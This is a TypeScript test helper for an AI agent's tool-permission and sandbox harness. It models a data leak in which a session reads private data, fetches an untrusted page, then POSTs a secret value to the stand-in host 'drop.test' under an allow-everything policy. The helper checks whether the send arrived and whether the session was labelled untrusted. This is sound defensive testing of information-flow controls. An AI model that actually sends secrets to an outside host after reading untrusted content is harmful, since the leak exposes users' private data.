// One try at a leak: something private by some way, a stranger's words, then a send that nobody named. What arrives was not asked about.
import { execFileSync } from "node:child_process";
import type { JsonObject, PolicyRule } from "@toolplane/contract";
import { expect } from "vitest";
import { PRODUCT_LEVELS, type ProductLevel } from "../../sandbox-levels.ts";
import { type FlowWorld, openFlowWorld, type Played } from "../flow-world.ts";

export type Step = readonly [name: string, args: JsonObject];

export const SECRET = "SECRETVALUE";

/** Everything may happen, as in the mode `yolo`; hosts are allowed by no name. */
const RULES: readonly PolicyRule[] = [
  { permission: "*", pattern: "**", action: "allow" },
  { permission: "net.fetch", pattern: "*:*", action: "allow" },
];

export const bash = (command: string): Step => ["bash", { command }];

export function git(workspace: string, ...words: string[]): string {
  const names = ["-c", "user.name=n", "-c", "user.email=n@example.com"];
  return execFileSync("git", [...names, ...words], {
    cwd: workspace,
    env: { PATH: process.env.PATH },
    encoding: "utf8",
  });
}

/** Runs one session of these calls and gives all that they printed. */
export async function play(
  { call }: Pick<Played, "call">,
  steps: readonly Step[],
): Promise<string> {
  const printed: string[] = [];
  for (const [name, args] of steps) printed.push(JSON.stringify(await call(name, args, "once")));
  return printed.join("\n");
}

/** The levels of this machine, for `describe.each`. */
export const LEVELS: readonly ProductLevel[] = PRODUCT_LEVELS.filter(({ runs }) => runs);

/** Of the ways at a level that differs in nothing that most of them are about. */
const TAKEN = 4;

/** All of them with a view and without a sandbox, and some at the levels between. */
export function waysAt<T>(
  { level }: ProductLevel,
  ways: readonly T[],
  take: (ways: readonly T[], count: number) => readonly T[],
): readonly T[] {
  return level === "full" || level === "none" ? ways : take(ways, TAKEN);
}

/** A world at a level in which everything may happen, but what further rules say. */
export async function openLevel(
  { sandbox, userDataInside }: ProductLevel,
  files: Readonly<Record<string, string>>,
  further: readonly PolicyRule[] = [],
): Promise<FlowWorld> {
  return openFlowWorld(files, { policy: [...RULES, ...further], sandbox, userDataInside });
}

export interface Leak {
  /** All that the calls printed. */
  readonly shown: string;
  /** It left, and nobody was asked. */
  readonly sent: boolean;
}

/** Plays one session of these calls, reads a page, and sends. */
export async function tryLeak(world: FlowWorld, steps: readonly Step[]): Promise<Leak> {
  const played = world.open();
  const shown = await play(played, steps);
  await played.call("web_fetch", { url: "http://pages.example/" }, "once");
  const before = world.arrived.length;
  await played.call("http_request", {
    method: "POST",
    url: "http://drop.test/",
    body: SECRET,
  });
  const sent = world.arrived.slice(before).some((line) => line.includes("drop.test"));
  expect(played.session.labels().some(({ label }) => label === "untrusted")).toBe(true);
  await played.session.close();
  return { shown, sent };
}
